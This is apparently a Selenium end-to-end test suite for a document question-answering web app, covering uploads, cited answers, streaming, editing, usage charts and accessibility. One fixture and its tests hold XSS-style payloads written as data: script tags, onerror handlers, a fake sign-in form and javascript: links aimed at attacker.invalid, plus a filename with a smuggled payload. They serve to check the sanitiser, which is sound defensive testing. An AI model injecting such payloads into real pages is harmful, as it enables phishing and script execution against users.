"""The page in a real browser, in front of the whole stack."""

from __future__ import annotations

import re
import threading
from http import HTTPStatus
from pathlib import Path

import pytest
from selenium.webdriver.common.keys import Keys

from sluice.testing.pdfs import pdf
from tests.page import failing, spending, stack
from tests.page.browser import screen
from tests.page.model import Model
from tests.page.window import Window

SPEED = "The sluice gate opens at forty two centimetres."


@pytest.fixture
def manual(tmp_path: Path) -> Path:
    """A PDF of two pages."""
    file = tmp_path / "gate-manual.pdf"
    file.write_bytes(pdf("Welcome to the manual of the gate.", SPEED))
    return file


LOADED = "return performance.getEntriesByType('resource').map((each) => each.name)"
TITLES = "return [...document.querySelectorAll('#conversations a')].map((link) => link.textContent)"


def put(window: Window, file: Path) -> None:
    """Upload a file on the page and wait until it is ready."""
    window.open("#/documents")
    window.upload(file)
    window.find(".upload.ready", file.name)


def test_from_an_upload_to_the_cited_page(window: Window, scripted: Model, manual: Path) -> None:
    """A PDF is dropped in, becomes ready, is asked about, and the citation opens the quote at its page."""
    put(window, manual)
    window.find(".document .badge", "Ready")
    window.find(".new").click()
    half = threading.Event()
    scripted.enqueue("It opens at **forty two** ", half, "centimetres [1].")
    window.ask("At how many centimetres does the sluice gate open?")

    window.until(lambda: window.answer() == "It opens at forty two")
    assert window.find("#stop").is_displayed()
    half.set()
    window.until(lambda: window.answer() == "It opens at forty two centimetres 1.")
    window.find(".answer .citation").click()

    window.find(".card.open .place", "Page 2")
    window.find(".card.open mark", SPEED)
    assert str(window.find(".card.open a").get_attribute("href")).endswith("#page=2")


def test_a_large_file_goes_to_the_bucket_itself(window: Window, tmp_path: Path) -> None:
    """More than a request may hold: the presigned form takes it, and the bucket's event makes it ready."""
    file = tmp_path / "large.html"
    file.write_text(f"<!-- {'padding ' * 600_000} --><h1>Large</h1><p>The dam is twelve metres high.</p>")
    put(window, file)

    window.find(".document", "large.html")


def test_blocks_that_are_finished_are_left_alone(window: Window, scripted: Model) -> None:
    """While later text comes, an earlier paragraph stays the same node: a selection in it survives."""
    more = threading.Event()
    scripted.enqueue("First paragraph.\n\nSecond ", more, "one.\n\n```\ncode\n```\n")
    window.ask("Anything?")
    window.until(lambda: "Second" in window.answer())
    window.run("window.first = document.querySelector('.answer .prose p')")
    more.set()
    window.find(".answer .code .copy")

    assert window.run("return window.first.isConnected && window.first.textContent") == "First paragraph."


def test_stop_ends_the_answer_and_keeps_what_was_said(window: Window, scripted: Model) -> None:
    """The half that came stays, also after a reload, and says that it was stopped."""
    never = threading.Event()
    scripted.enqueue("Only the beginning", never, " and never the end.")
    window.ask("Something long?")
    window.until(lambda: window.answer() == "Only the beginning")
    window.find("#stop").click()
    window.find(".answer .status", "Stopped.")
    never.set()
    window.reload()

    window.find(".answer .status", "Stopped.")
    assert window.answer() == "Only the beginning"


def test_a_reload_in_the_middle_of_an_answer_finds_it(window: Window, scripted: Model) -> None:
    """The conversation opens again at its address, and the answer goes on to its end."""
    rest = threading.Event()
    scripted.enqueue("Before the reload ", rest, "and after it.")
    window.ask("What survives?")
    window.until(lambda: window.answer() == "Before the reload")
    window.reload()
    window.until(lambda: window.answer() == "Before the reload")
    rest.set()

    window.until(lambda: window.answer() == "Before the reload and after it.")
    window.gone("#stop")
    assert window.find(".question .bubble").text == "What survives?"


def test_editing_a_question_makes_a_branch_to_step_through(window: Window, scripted: Model) -> None:
    """The first version stays and is a step away, also after a reload."""
    scripted.enqueue("First answer.")
    window.ask("First version?")
    window.until(lambda: window.answer() == "First answer." and not window.all("#stop"))
    scripted.enqueue("Second answer.")
    window.run("arguments[0].click()", window.driver.find_element("css selector", "[aria-label='Edit question']"))
    field = window.find(".editor textarea")
    field.clear()
    field.send_keys("Second version?", Keys.ENTER)
    window.until(lambda: window.answer() == "Second answer." and not window.all("#stop"))
    assert window.find(".question .stepper").text == "2/2"

    window.button("Previous version").click()
    window.until(lambda: window.answer() == "First answer.")
    assert window.find(".question .bubble").text == "First version?"
    window.reload()
    window.until(lambda: window.answer() == "First answer.")


def test_regenerating_keeps_the_other_answer(window: Window, scripted: Model) -> None:
    """Another answer stands beside the first."""
    scripted.enqueue("One way.")
    window.ask("Which way?")
    window.until(lambda: window.answer() == "One way." and not window.all("#stop"))
    scripted.enqueue("Another way.")
    window.button("Regenerate answer").click()
    window.until(lambda: window.answer() == "Another way." and not window.all("#stop"))

    assert window.find(".answer .stepper").text == "2/2"


def test_a_thumb_is_kept(window: Window, scripted: Model) -> None:
    """It shows that it was taken, and another one takes its place."""
    scripted.enqueue("Good?")
    window.ask("How is this?")
    window.until(lambda: window.answer() == "Good?" and not window.all("#stop"))
    window.button("This helped").click()
    window.find(".thumbs [aria-label='This helped'][aria-pressed=true]")
    window.button("This did not help").click()
    window.find(".thumbs [aria-label='This did not help'][aria-pressed=true]")

    assert window.find(".thumbs [aria-label='This helped']").get_attribute("aria-pressed") == "false"


def test_conversations_are_renamed_found_and_deleted(window: Window, scripted: Model) -> None:
    """All from the list beside them."""
    scripted.enqueue("Yes.")
    window.ask("Is this about turbines?")
    window.until(lambda: window.answer() == "Yes." and not window.all("#stop"))
    window.find("#conversations a[aria-current]")
    item = window.driver.find_element("css selector", "#conversations li:has([aria-current]) [aria-label^=Rename]")
    window.run("arguments[0].click()", item)
    window.find("#conversations input").send_keys(Keys.CONTROL, "a")
    window.find("#conversations input").send_keys("Turbine talk", Keys.ENTER)
    window.find("#conversations a", "Turbine talk")
    window.find("#search").send_keys("turbine talk")
    window.until(lambda: window.run(TITLES) == ["Turbine talk"])

    window.run(
        "arguments[0].click()", window.driver.find_element("css selector", "[aria-label='Delete “Turbine talk”']")
    )
    window.button("Delete").click()
    window.find("#conversations", "Nothing found.")
    window.find(".welcome")


HOSTILE = """
<script>window.attacked = "script"</script>
<img src="https://attacker.invalid/pixel.png" onerror="window.attacked = 'image'">
<form action="https://attacker.invalid/"><input name="key"><button>Sign in again</button></form>
<style>body { display: none }</style>
<a href="javascript:window.attacked='link'">Open the source</a>

[Read more](javascript:window.attacked='markdown') ![pixel](https://attacker.invalid/other.png)
[1](https://attacker.invalid/cite) and [7] and [1]

[1]: https://attacker.invalid/definition
"""


COUNTED = "return document.querySelectorAll(`${arguments[0]} :is(${arguments[1]})`).length"
DANGEROUS = "script, img, form, input, style, iframe, object, [onerror], [style], a[href^='javascript' i]"


def test_what_a_hostile_document_says_has_no_effect(window: Window, scripted: Model, tmp_path: Path) -> None:
    """Scripts, forms, images, javascript: links and false citations of a document that the model repeats do nothing."""
    file = tmp_path / "<img src=x onerror=alert(1)>.md"
    file.write_text(f"# <script>window.attacked='title'</script> Quarterly figures\n{HOSTILE}")
    put(window, file)
    window.find(".new").click()
    scripted.enqueue(HOSTILE)
    window.ask("What do the quarterly figures say?")
    window.gone("#stop")
    window.find(".answer .citation").click()
    window.find(".card.open mark")
    for link in window.driver.find_elements("css selector", ".answer a"):
        window.run(
            "arguments[0].removeAttribute('target'); arguments[0].href.startsWith('http') || arguments[0].click()", link
        )

    assert window.run("return window.attacked ?? null") is None
    assert window.run(COUNTED, "#thread", DANGEROUS) == window.run(COUNTED, "#sources", DANGEROUS) == 0
    assert [link.get_attribute("href") for link in window.all(".answer a[href]")] == [
        "https://attacker.invalid/cite",
        "https://attacker.invalid/definition",
    ]
    assert "1 (attacker.invalid)" in window.answer()
    assert {button.text for button in window.all(".answer .citation")} == {"1"}
    assert [each for each in window.complaints() if "The action has been blocked." not in each] == []
    assert [name for name in window.run(LOADED) if "attacker" in name] == []


def test_the_policy_refuses_what_the_sanitiser_would_let_through(window: Window) -> None:
    """A script, a style and an image that somehow got onto the page do not run, apply or load."""
    window.run(
        """
        const script = document.createElement("p");
        try { script.innerHTML = "<img src=x onerror='window.attacked = 1'>"; }
        catch (error) { window.refused = error.name; }
        document.body.append(script, Object.assign(new Image(), { src: "https://attacker.invalid/pixel.png" }));
        """
    )
    window.until(lambda: any("attacker.invalid" in each for each in window.complaints()))

    assert window.run("return [window.attacked ?? null, window.refused]") == [None, "TypeError"]
    window.complaints()


def test_an_unreachable_model_says_what_to_do(window: Window, scripted: Model) -> None:
    """An answer that breaks off keeps its text and offers another try, which works."""
    scripted.enqueue("Here.")
    window.run("window.real = window.fetch; window.fetch = () => Promise.reject(new TypeError('offline'))")
    window.ask("Are you there?")
    window.find(".failure", "can't be reached")
    window.run("window.fetch = window.real")
    window.button("Try again").click()

    window.until(lambda: window.answer() == "Here.")
    window.gone(".failure")


def test_another_model_that_stands_in_is_named(window: Window, scripted: Model) -> None:
    """While it thinks, and beside its answer."""
    held = threading.Event()
    for _ in range(2):  # each model is tried twice
        scripted.enqueue(HTTPStatus.SERVICE_UNAVAILABLE)
    scripted.enqueue(held, "From the stand-in.")
    window.ask("Who answers?")
    window.find(".status.waiting", "The model did not answer; asking another one: openai/stand-in.")
    held.set()

    window.until(lambda: window.answer() == "From the stand-in.")
    window.find(".answer .tools", "openai/stand-in")


def test_files_and_folders_are_dropped_anywhere(window: Window, tmp_path: Path) -> None:
    """Those in folders too, whatever place is open; what is hidden is left out."""
    folder = tmp_path / "manuals"
    (folder / "deep").mkdir(parents=True)
    for name in ("manuals/weir.md", "manuals/deep/lock.md", "manuals/.hidden.md", "alone.md"):
        (tmp_path / name).write_text(f"# {name}\n\nText of {name}.")
    window.drop(folder, tmp_path / "alone.md")

    for name in ("weir.md", "lock.md", "alone.md"):
        window.find(".upload.ready", name)
    assert window.run("return location.hash") == "#/documents"
    assert window.all(".upload", ".hidden.md") == []
    window.button("Clear what is ready").click()
    window.gone(".upload")


def test_a_document_of_which_pages_have_no_text_says_so(window: Window, tmp_path: Path) -> None:
    """Where it is uploaded and in the list: it is ready, but questions find only a part of it."""
    file = tmp_path / "scanned-annexes.pdf"
    file.write_bytes(pdf("The annexes of the gate's manual.", None, None))
    put(window, file)

    window.find(".upload.ready .reason", "2 of 3 pages have no text.")
    window.find(".document .reason", "2 of 3 pages have no text.")


def test_a_failed_document_is_tried_again(window: Window, addresses: stack.Addresses, manual: Path) -> None:
    """One button reads it anew, and the list follows it until it is ready; what is ready has no such button."""
    put(window, manual)
    failing.fail(addresses.database, manual.name, "The embedding model did not answer.")
    window.open("#/documents")
    window.find(".document .reason", "The embedding model did not answer.")
    window.button(f"Try “{manual.name}” again").click()

    window.until(lambda: [row.text.endswith("Ready") for row in window.all(".document", manual.name)] == [True])
    assert window.all("button[aria-label^='Try']") == []


def test_what_was_used_is_drawn_by_day(window: Window, addresses: stack.Addresses) -> None:
    """A bar for each of thirty days, told in words where the pointer is, and as a table to those who listen."""
    spending.spend(addresses.database, [(1, 1_000, 100, 0.5), (2, 3_000, 1_000, 1.5)])
    window.open("#/usage")
    tokens, cost = window.until(lambda: window.all(".chart"))
    bars = tokens.find_elements("css selector", "svg g")
    window.point_at(bars[-2])

    assert len(bars) == 30
    assert re.fullmatch(
        r"\w+ \d+: 3,000 in, 1,000 out", tokens.find_element("css selector", "figcaption > .note:last-child").text
    )
    rows = window.run(
        "return [...arguments[0].querySelectorAll('tbody tr')].map((row) => row.lastChild.textContent)", cost
    )
    assert rows[:2] == ["$0.50", "$1.50"]


def test_the_keyboard_is_enough(window: Window, scripted: Model, manual: Path) -> None:
    """Ctrl+K goes to the question, Enter asks, Escape stops; Escape in the sources goes back to the citation."""
    put(window, manual)
    window.run("document.activeElement.blur()")
    window.chord(Keys.CONTROL, "k")
    window.until(lambda: window.driver.switch_to.active_element.get_attribute("id") == "question")
    held = threading.Event()
    scripted.enqueue("Waiting ", held, "no more.")
    window.ask("By keyboard?")
    window.until(lambda: window.answer() == "Waiting")
    window.press(Keys.ESCAPE)
    window.find(".answer .status", "Stopped.")
    held.set()
    scripted.enqueue("Cited [1].")
    window.ask("And a source?")
    window.gone("#stop")
    window.run("document.querySelector('.citation').focus()")
    window.press(Keys.ENTER)
    window.until(lambda: window.run("return document.activeElement.closest('.card')?.dataset.source") == "1")
    window.press(Keys.ESCAPE)
    assert window.driver.switch_to.active_element.get_attribute("class") == "citation"


@pytest.mark.parametrize("place", ["", "#/documents", "#/usage"])
def test_nothing_is_wider_than_a_small_telephone(window: Window, place: str) -> None:
    """At 360 pixels nothing has to be scrolled sideways."""
    with screen(window.driver, 360, 720, mobile=True):
        window.open(place)
        assert window.run("return [innerWidth, document.documentElement.scrollWidth]") == [360, 360]
